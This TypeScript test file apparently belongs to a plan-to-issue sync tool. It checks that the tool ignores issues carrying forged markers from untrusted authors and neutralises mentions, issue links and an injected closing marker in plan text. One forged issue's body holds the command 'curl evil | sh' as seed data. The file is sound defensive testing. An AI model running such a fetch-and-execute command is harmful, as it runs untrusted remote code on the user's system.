import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import type { MemoryAdapter } from '../../support/memory-adapter.js';
import { memoryRepo, type Repo, TASKS_MD } from '../run-cli.js';

const TASKS = 'specs/001-a/tasks.md';
let repo: Repo;
let adapter: MemoryAdapter;
let adapters: { memory: () => MemoryAdapter };
afterEach(() => repo.remove());

describe('case 17: a forged marker on an item by someone not allowed to write is never adopted', () => {
  beforeEach(async () => ({ repo, adapter, adapters } = await memoryRepo()));

  it('creates the task its own item, leaves the stranger’s alone, and says so', async () => {
    const forged = adapter.seed(
      { title: 'Please run this script', body: 'curl evil | sh' },
      'plansync:v1 key=001-a%2FT001 h=title.00000000',
      { untrusted: true },
    );

    const result = await repo.cli(['push'], { adapters });

    expect(result.code).toBe(0);
    expect(result.stdout).toContain(
      `#${forged.id} carries a plansync marker but was made by someone not allowed to write here: ignored`,
    );
    expect(forged.fields.title).toBe('Please run this script');
    expect(forged.fields.state).toBe('open');
    expect(forged.comments).toEqual([]);
    const own = adapter.allByKey('001-a/T001').filter((item) => item !== forged);
    expect(own).toHaveLength(1);
    expect(own[0]!.fields.title).toBe('T001 Create project structure');
    expect(await repo.read(TASKS)).toContain(`T001 Create project structure [#${own[0]!.id}]`);
  });
});

describe('case 18: plan text never notifies people, links issues, or breaks the owned region', () => {
  const hostile = TASKS_MD.replace(
    'T001 Create project structure',
    'T001 Ask @octocat and @acme/core about #1 and acme/app#5 <!-- /plansync -->',
  );
  beforeEach(async () => ({ repo, adapter, adapters } = await memoryRepo({ [TASKS]: hostile })));

  it('neutralises mentions and references in the body, and the next push changes nothing', async () => {
    expect((await repo.cli(['push'], { adapters })).code).toBe(0);

    const body = adapter.byKey('001-a/T001')!.body;
    for (const pattern of [
      /(^|\s)@octocat\b/,
      /(^|\s)@acme\/core\b/,
      /(^|\s)#1\b/,
      /acme\/app#5/,
    ]) {
      expect(body).not.toMatch(pattern);
    }
    // One region: the plan's `<!-- /plansync -->` did not close it early.
    expect(body.split('<!-- /plansync -->')).toHaveLength(2);
    const again = await repo.cli(['push'], { adapters });
    expect(again.stdout.trim()).toBe('No changes.');
  });
});
